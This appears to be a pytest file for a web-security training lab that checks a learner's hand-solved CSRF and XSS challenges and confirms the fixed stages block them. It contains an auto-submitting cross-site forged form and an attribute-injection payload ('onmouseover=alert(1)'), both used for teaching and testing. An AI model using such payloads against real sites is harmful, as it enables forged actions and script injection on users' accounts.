"""The csrf and xss challenges solved by hand in Chromium; the fixing stage solves nothing."""

from __future__ import annotations

from html import escape

import pytest
import requests

from marketplace.exploits.browser import Chromium, attacker_site, origin_of


@pytest.fixture
def backend():
    """SQLite only: these detectors read headers and pages, not the database (CI time)."""
    return "sqlite"


def solved_keys(live_target) -> set[tuple[str, str]]:
    """What the live lab's ``/lab/progress.json`` shows solved, each by the learner."""
    reply = requests.get(live_target.base_url + "lab/progress.json", timeout=10)
    assert reply.status_code == 200
    keys = set()
    for entry in reply.json()["challenges"]:
        if entry["solved"]:
            assert entry["by"] == "learner", entry
            keys.add((entry["lesson"], entry["exploit"]))
    return keys


def by_hand(chrome: Chromium) -> Chromium:
    """The browser helpers' Chromium, minus the header that marks the lab's own exploits:
    what it does now is the learner's."""
    chrome.page.context.set_extra_http_headers({})
    return chrome


# The learner's own page: a form that posts itself to the marketplace on load.
FORGED_PAGE = """<!doctype html><title>Win a prize</title>
<form method="post" action="{action}">
<input type="hidden" name="title" value="Posted by someone else">
<input type="hidden" name="description" value="The seller never wrote this.">
</form><script>document.forms[0].submit()</script>"""


@pytest.mark.browser
@pytest.mark.parametrize("stage", ["no-token", "csrf-token"])
def test_cross_origin_form_post_by_hand(set_stage, live_target, stage):
    set_stage("csrf", stage)
    seller = live_target.account("seller")
    action = live_target.base_url + "listings/create"
    with (
        Chromium(live_target) as browser,
        attacker_site(FORGED_PAGE.format(action=escape(action))) as evil,
    ):
        chrome = by_hand(browser)
        chrome.login(seller.email, seller.password)
        with chrome.page.expect_response(
            lambda r: r.request.method == "POST" and r.url == action
        ) as posted:
            chrome.open(evil, wait_until="commit")
        status = posted.value.status
        assert posted.value.request.all_headers()["origin"] == origin_of(evil)
    welcome = seller.http.get("/user/welcome").text
    if stage == "no-token":
        assert status == 302 and "Posted by someone else" in welcome
        assert solved_keys(live_target) == {("csrf", "cross-origin-form-post")}
    else:
        assert status == 403 and "Posted by someone else" not in welcome
        assert solved_keys(live_target) == set()


@pytest.mark.browser
@pytest.mark.parametrize("stage", ["unquoted-attribute", "quoted-attribute"])
def test_attribute_injection_by_hand(set_stage, live_target, stage):
    set_stage("xss", stage)
    learner = live_target.account("xss")
    with Chromium(live_target) as browser:
        chrome = by_hand(browser)
        chrome.login(learner.email, learner.password)
        landed = chrome.submit_form("/user/edit", {"full_name": "x onmouseover=alert(1)"})
        assert landed == "/user/edit"
        chrome.page.hover("#full_name")
        dialog = chrome.wait_for_dialog(seconds=1.0 if stage == "quoted-attribute" else 3.0)
    if stage == "unquoted-attribute":
        assert dialog
        assert solved_keys(live_target) == {("xss", "attribute-injection")}
    else:
        assert not dialog and solved_keys(live_target) == set()
